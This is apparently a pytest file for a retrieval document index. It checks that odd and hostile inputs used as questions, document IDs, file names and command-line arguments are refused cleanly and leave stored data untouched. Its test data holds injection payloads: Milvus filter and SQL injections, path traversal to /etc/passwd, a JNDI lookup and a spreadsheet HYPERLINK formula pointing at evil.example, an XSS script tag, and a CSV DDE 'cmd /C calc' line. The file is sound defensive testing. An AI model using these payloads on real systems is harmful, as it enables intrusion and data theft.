"""Questions and names that nobody means: each has a result or one sentence, and touches no row but its own."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest

from rag import DocumentIndex, NotFound, RagError, Settings
from rag.ingestion.inputs import NAME_CHARACTERS, display_name
from tests.attacks.patterns import NAMES
from tests.conftest import REPOSITORY

TEA = b"The tea house opens at seven in the morning. It serves forty kinds of tea."
FERRY = b"The ferry to the island leaves at noon. A ticket costs nine euros."
ODD = {
    "empty": "",
    "blank": " \t\n\u3000\u200b ",
    "NUL": "\x00",
    "NUL within": "te\x00a",
    "controls": "".join(map(chr, range(32))) + "tea\x7f\x85\x9b",
    "escape sequences": "\x1b[2J\x1b]8;;http://evil.example\x07tea\x1b]8;;\x07",
    "100 kB of words": "tea " * 25_000,
    "100 kB without a space": "t" * 100_000,
    "100 kB of Hangul": "차" * 34_000,
    "100 kB of quotes": '"' * 100_000,
    "100,000 different words": " ".join(f"w{number}" for number in range(20_000)),
    "right to left": "\u202etea\u202c \u200f\u2067שלום\u2069",
    "emoji": "🫖👨‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e007f tea?",
    "lone surrogates": "\ud83d tea \udc80\udfff",
    "combining marks": "t" + "\u0301" * 2_000 + "ea",
    "noncharacters": "\ufdd0\uffff\U0010ffff\U000f0000 tea",
    "Milvus filter": '" or doc_id != "',
    "Milvus filter with a list": '"] or doc_id like "%" or doc_id in ["',
    "Milvus filter with a backslash": '\\" or 1 == 1 or doc_id == "\\',
    "SQL": "'; DROP TABLE documents; --",
    "SQL in one line": "' OR '1'='1' UNION SELECT * FROM messages --",
    "SQL patterns": "%_[]^ LIKE '%'",
    "path upwards": "../../../../etc/passwd",
    "path of Windows": "..\\..\\C:\\Windows\\System32\\CON",
    "absolute path": "/etc/passwd",
    "device": "CON",
    "300 characters": "n" * 300,
    "Hangul taken apart": unicodedata.normalize("NFD", "차 한 잔은 얼마입니까"),
    "formula": '=HYPERLINK("http://evil.example","tea")',
    "format": "%s%n %(x)s {0.__class__} ${jndi:ldap://evil.example/x} {{7*7}}",
    "regular expression": "(a+)+$ [[[ \\",
    "JSON": '{"$ne": null, "doc_ids": ["*"]}',
    "only signs": "?!.,;:()[]{}<>|\\/~`^",
    "Markdown": "![x](http://evil.example/x) <script>alert(1)</script> :red[x] $x$",
    "option": "--help",
}
odd = pytest.mark.parametrize("name", ODD)


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DocumentIndex]:
    settings = Settings(
        data_dir=tmp_path_factory.mktemp("odd"), embed_model="bundled", max_question_characters=1_000_000
    )
    with DocumentIndex(settings) as opened:
        assert [result.status for result in opened.ingest([("tea.txt", TEA), ("ferry.txt", FERRY)])] == ["ready"] * 2
        yield opened


def state(index: DocumentIndex) -> tuple[object, ...]:
    """Everything that is kept: documents, rows in Milvus, files, conversations."""
    files = sorted(str(path) for path in (index.settings.data_dir / "files").rglob("*") if path.is_file())
    rows = index._loop.run(index._store.count(None, "Strong"))
    return index.documents(), rows, files, index.conversations.list()


@pytest.fixture
def index(shared: DocumentIndex) -> Iterator[DocumentIndex]:
    before = state(shared)
    yield shared
    assert state(shared) == before


@odd
def test_odd_question_is_answered_or_refused_in_a_sentence(index: DocumentIndex, name: str) -> None:
    began = time.monotonic()
    known = {document.doc_id for document in index.documents()}
    try:
        found = index.search(ODD[name], history=[{"role": "user", "content": ODD[name]}])
        answer = index.ask(ODD[name])
        assert answer.text
        assert {passage.doc_id for passage in [*found, *answer.passages]} <= known
        json.dumps(answer.evidence().question).encode()
    except RagError as error:
        assert type(error) is RagError
        assert "empty" in str(error)
    # Generous, on any machine: without bounds the long ones take minutes.
    assert time.monotonic() - began < 30


@odd
def test_odd_id_finds_nothing_and_touches_nothing(index: DocumentIndex, name: str) -> None:
    text = ODD[name]
    for call in (
        index.document,
        index.original,
        index.delete,
        index.retry,
        index.page_text,
        index.image_pages,
        lambda doc_id: index.page_image(doc_id, 1),
        lambda doc_id: index.page_marks(doc_id, 1, [(0, 1)]),
        lambda doc_id: index.search("tea", doc_ids=[doc_id]),
        lambda doc_id: index.ask("tea", doc_ids=[doc_id]),
        index.cancel,
        index.conversations.get,
        index.conversations.messages,
        index.conversations.delete,
        index.conversations.delete_last_answer,
        index.conversations.to_markdown,
        lambda conversation_id: index.conversations.rename(conversation_id, "x"),
    ):
        with pytest.raises(NotFound) as caught:
            call(text)
        assert "\n" not in str(caught.value)
        assert len(str(caught.value)) < 200
    index.dismiss(text or "x")


@pytest.mark.parametrize("name", [*ODD, *(f"name: {name}" for name in NAMES)])
def test_odd_file_name_is_shown_on_one_line_and_is_no_path(name: str) -> None:
    given = ODD[name] if name in ODD else NAMES[name.removeprefix("name: ")]
    shown = display_name(given)
    assert 0 < len(shown) <= NAME_CHARACTERS
    assert "/" not in shown
    assert "\\" not in shown
    assert all(unicodedata.category(character) not in {"Cc", "Cf", "Cs", "Zl", "Zp"} for character in shown)
    assert unicodedata.is_normalized("NFC", shown)
    assert display_name(shown) == shown


@pytest.mark.slow
def test_documents_of_odd_names_come_go_and_leave_nothing(index: DocumentIndex, tmp_path: Path) -> None:
    names = [*ODD.values(), *NAMES.values()]
    files = [(f"{name}.txt", f"Note {place} on the walrus.".encode()) for place, name in enumerate(names)]
    results = index.ingest(files)
    assert [result.status for result in results] == ["ready"] * len(files)
    kept = index.settings.data_dir / "files"
    assert {path.name[:64] for path in kept.rglob("*") if path.is_file()} == {
        document.doc_id for document in index.documents()
    }
    for result, (name, data) in zip(results, files, strict=True):
        assert index.namesake(name, b"other") is not None
        assert index.original(result.doc_id or "") == data
        assert index.delete(result.doc_id or "").left == 0
    index.dismiss()


def test_a_sheet_of_formulas_is_text(index: DocumentIndex) -> None:
    sheet = 'name,amount\n=1+1,@SUM(A1)\n"=HYPERLINK(""http://evil.example"",""x"")",-cmd|\' /C calc\'!A0\n'
    (result,) = index.ingest([("=sheet.csv", sheet.encode())])
    assert result.status == "ready"
    text = index.page_text(result.doc_id or "")
    assert "=1+1" in text
    assert "=HYPERLINK" in text
    index.delete(result.doc_id or "")
    index.dismiss()


def test_odd_conversations_are_kept_and_exported(shared: DocumentIndex) -> None:
    for text in ODD.values():
        conversation = shared.conversations.create(text)
        shared.conversations.rename(conversation.conversation_id, text)
        assert len(shared.conversations.get(conversation.conversation_id).title) <= 200
        assert shared.conversations.to_markdown(conversation.conversation_id).encode()
        shared.conversations.delete(conversation.conversation_id)


def run_command(folder: Path, *arguments: str | bytes) -> subprocess.CompletedProcess[bytes]:
    environment = os.environ | {"DATA_DIR": str(folder), "EMBED_MODEL": "bundled", "PYTHONPATH": str(REPOSITORY)}
    return subprocess.run(
        [sys.executable, "-c", COMMANDS, *arguments], capture_output=True, env=environment, timeout=120, check=False
    )


# Many command lines in one process, which takes seconds to begin: each line of its output is an exit code.
COMMANDS = """
import contextlib, io, sys
from rag.cli.main import main
arguments, codes = sys.argv[1:], []
while arguments:
    end = arguments.index("--next")
    command, arguments = arguments[:end], arguments[end + 1:]
    try:
        code = main(command)
    except SystemExit as leaving:
        code = leaving.code
    codes.append(code)
sys.stdout.flush()
print("codes:", *codes)
"""


@pytest.mark.slow
@pytest.mark.skipif(os.name == "nt", reason="arguments are not bytes there")
def test_command_line_says_in_a_sentence_what_it_does_not_take(tmp_path: Path) -> None:
    # NUL can't be in an argument, and all of them together may not have more than some megabytes.
    texts = [
        os.fsencode(text.replace("\x00", "").encode("utf-8", "replace"))
        for name, text in ODD.items()
        if not name.startswith("100") or name == "100 kB of words"
    ]
    bytes_of_no_text = b"\xff\xfe tea \xed\xa0\x80\x1b[31m"
    (tmp_path / "tea.txt").write_bytes(TEA)
    named = os.fsencode(tmp_path) + b"/" + bytes_of_no_text + b".txt"
    Path(os.fsdecode(named)).write_bytes(FERRY)
    commands: list[list[bytes]] = [[b"ingest", os.fsencode(tmp_path / "tea.txt"), named]]
    for text in [*texts, bytes_of_no_text]:
        commands += [[b"list", b"--collection=" + text]]
    commands += [[b"delete", b"--", text] for text in (texts[0], bytes_of_no_text, ODD["Milvus filter"].encode())]
    commands += [[b"ingest", b"--", *(b"./" + text for text in texts if text)]]
    commands += [[b"ask", b"tea", b"--doc=" + bytes_of_no_text], [b"ask", b"--json", bytes_of_no_text]]
    commands += [[b"search", b"--", texts[0]], [bytes_of_no_text], [b"list"]]
    done = run_command(tmp_path / "data", *(part for command in commands for part in (*command, b"--next")))
    output, errors = done.stdout.decode(), done.stderr.decode()
    assert "Traceback" not in errors + output
    assert done.returncode == 0, errors[-2000:]
    codes = output.rpartition("codes:")[2].split()
    assert len(codes) == len(commands)
    assert codes[0] == "0"
    assert set(codes) <= {"0", "1", "2"}
    assert "unexpected" not in errors
    # What begins with "Error:" is one line each, and no escape sequence reaches the terminal.
    assert errors.count("Error:") == sum(code != "0" for code in codes)
    assert all(line.startswith("Error: ") for line in errors.splitlines())
    assert "\x1b" not in output + errors
    assert output.rpartition("codes:")[0].count("ready  ") >= 2, "both documents are still there"
